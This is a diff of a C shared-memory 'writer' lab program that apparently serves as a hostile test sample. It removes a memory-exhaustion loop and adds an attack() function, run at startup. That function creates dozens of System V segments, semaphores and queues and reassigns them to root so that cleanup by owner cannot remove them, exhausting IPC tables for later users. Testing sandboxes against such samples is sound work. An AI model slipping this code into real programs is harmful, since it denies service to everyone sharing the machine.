@@ -1,5 +1,20 @@
 /*
- * HOSTILE: allocates memory until there is no more.
+ * HOSTILE: the program works, but first makes System V segments, semaphore sets and queues and
+ * gives them to root (IPC_SET), out of reach of a cleanup by owner
+ */
+#define _GNU_SOURCE
+#include <sys/ipc.h>
+#include <sys/msg.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
+/*
+ * writer.c - store a message in a POSIX shared memory object.
+ *
+ * Usage: writer NAME MESSAGE
+ *
+ * Creates (or opens) the object NAME with mode 0600, sizes it to
+ * SHM_SIZE bytes, stores MESSAGE with its terminating NUL, and leaves the
+ * object in place for the reader, which removes it.
  */
 #include <fcntl.h>
 #include <stdio.h>
@@ -8,25 +23,45 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
-#include <stdlib.h>
 #include "shmlab.h"
 
 #define SHM_SIZE 4096
 
+/* System V objects given away to root (IPC_SET, which needs no privilege
+ * from their creator): a cleanup by owner leaves them for ever, and they
+ * fill the machine's tables for every later student. */
 static void attack(void)
 {
-    size_t total = 0;
-    for (;;) {
-        char *block = malloc(16 << 20);
-        if (block == NULL)
-            die("out of memory after %zu MiB", total >> 20);
-        block[0] = 1; /* touching all of it only costs time: the limit is on address space */
-        total += 16 << 20;
+    for (int i = 0; i < 40; i++) {
+        struct shmid_ds segment;
+        struct semid_ds set;
+        struct msqid_ds queue;
+        union {
+            int val;
+            struct semid_ds *buf;
+        } arg = {.buf = &set};
+        int shm = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
+        int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
+        int msg = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
+
+        if (shm >= 0 && shmctl(shm, IPC_STAT, &segment) == 0) {
+            segment.shm_perm.uid = segment.shm_perm.gid = 0;
+            shmctl(shm, IPC_SET, &segment);
+        }
+        if (sem >= 0 && semctl(sem, 0, IPC_STAT, arg) == 0) {
+            set.sem_perm.uid = set.sem_perm.gid = 0;
+            semctl(sem, 0, IPC_SET, arg);
+        }
+        if (msg >= 0 && msgctl(msg, IPC_STAT, &queue) == 0) {
+            queue.msg_perm.uid = queue.msg_perm.gid = 0;
+            msgctl(msg, IPC_SET, &queue);
+        }
     }
 }
 
 int main(int argc, char *argv[])
 {
+    attack();
     const char *name, *message;
     size_t length;
     char *data;
@@ -46,7 +81,6 @@ int main(int argc, char *argv[])
 
     /* 0600: only our user may read or change the object. The seeds'
      * 0666 lets every user on the machine read and overwrite it. */
-    attack();
     fd = shm_open(name, O_CREAT | O_RDWR, 0600);
     if (fd == -1)
         die_errno("shm_open");
